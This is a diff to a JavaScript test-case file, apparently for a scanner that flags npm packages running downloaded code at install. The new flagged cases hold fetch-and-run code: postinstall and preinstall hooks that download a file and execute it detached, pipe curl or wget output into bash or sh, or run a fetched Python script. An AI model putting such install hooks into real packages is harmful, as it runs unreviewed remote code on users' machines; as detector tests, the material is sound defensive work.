@@ -35,8 +35,47 @@ export default defineCases({
         'index.js': '',
       },
     },
+    {
+      name: 'a program saved in a temporary folder, made executable and left running',
+      manifest: { scripts: { postinstall: 'node s.js' } },
+      files: {
+        'index.js': '',
+        's.js':
+          "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'), { spawn } = require('child_process');\nconst file = path.join(os.tmpdir(), '.cache_' + Date.now());\nhttps.get('https://files.example/a', (res) => {\n  const out = fs.createWriteStream(file);\n  res.pipe(out);\n  out.on('finish', () => { fs.chmodSync(file, 0o755); spawn(file, [], { detached: true, stdio: 'ignore' }).unref() });\n})",
+      },
+    },
+    {
+      name: 'a script fetched with curl, run with Python',
+      code: "const { execSync } = require('child_process');\nexecSync('curl -s -o /tmp/inert.py https://files.example/x');\nexecSync('python3 /tmp/inert.py')",
+    },
+    {
+      name: 'another JavaScript runtime',
+      manifest: { scripts: { preinstall: 'node setup_bun.js' } },
+      files: {
+        'index.js': '',
+        'setup_bun.js': "require('child_process').execSync('curl -fsSL https://bun.sh/install | bash')",
+      },
+    },
+    {
+      name: 'a shell script that the install runs',
+      manifest: { scripts: { postinstall: 'sh get.sh' } },
+      files: { 'index.js': '', 'get.sh': '#!/bin/sh\nwget -qO- https://files.example/x | sh\n' },
+    },
   ],
   ok: [
+    {
+      name: 'a binary that is saved, and run when asked',
+      code: "const fs = require('fs'), cp = require('child_process');\nconst file = __dirname + '/bin/tides';\nexports.update = async (u) => fs.writeFileSync(file, Buffer.from(await (await fetch(u)).arrayBuffer()));\nexports.run = (a) => cp.spawnSync(file, a)",
+    },
+    {
+      name: 'a download at install that nothing runs',
+      manifest: { scripts: { install: 'node get.js' } },
+      files: {
+        'index.js': '',
+        'get.js':
+          "const fs = require('fs'), https = require('https'), cp = require('child_process');\nconst file = __dirname + '/model.bin';\nhttps.get('https://files.example/model', (r) => r.pipe(fs.createWriteStream(file)));\ncp.execFileSync('tar', ['--version'])",
+      },
+    },
     {
       name: 'a native addon’s prebuilt binary',
       manifest: { scripts: { install: 'prebuild-install || node-gyp rebuild' } },
